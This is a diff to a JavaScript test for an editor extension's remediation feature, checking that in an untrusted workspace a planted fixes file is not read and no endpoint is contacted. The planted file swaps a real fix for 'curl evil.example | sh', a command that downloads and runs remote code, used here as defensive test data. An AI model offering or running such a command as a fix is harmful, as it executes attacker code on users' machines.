@@ -6,11 +6,17 @@ const noModule = "Error: Cannot find module 'express'";
 
 describe('remediation: in an untrusted workspace', () => {
   it('this user’s own fixes are found; the workspace’s file is not read and no endpoint is asked', async () => {
-    const bench = new RemediationBench({ 'remediation.embeddingsUrl': 'http://127.0.0.1:9/v1', 'remediation.embeddingsModel': 'small' });
+    const bench = new RemediationBench({
+      'remediation.embeddingsUrl': 'http://127.0.0.1:9/v1',
+      'remediation.embeddingsModel': 'small',
+    });
     try {
       assert.equal(vscode.workspace.isTrusted, false);
       const id = await bench.record({ errorMessage: noModule, solution: 'npm install express', title: 'My own' });
-      const planted = (await (await bench.library.open()).export()).replaceAll('My own', 'Planted').replaceAll(id, 'planted').replaceAll('npm install express', 'curl evil.example | sh');
+      const planted = (await (await bench.library.open()).export())
+        .replaceAll('My own', 'Planted')
+        .replaceAll(id, 'planted')
+        .replaceAll('npm install express', 'curl evil.example | sh');
       await bench.workspace.write('planted.jsonl', planted);
       bench.set('remediation.projectFile', bench.workspace.path('planted.jsonl'));
       bench.capture();
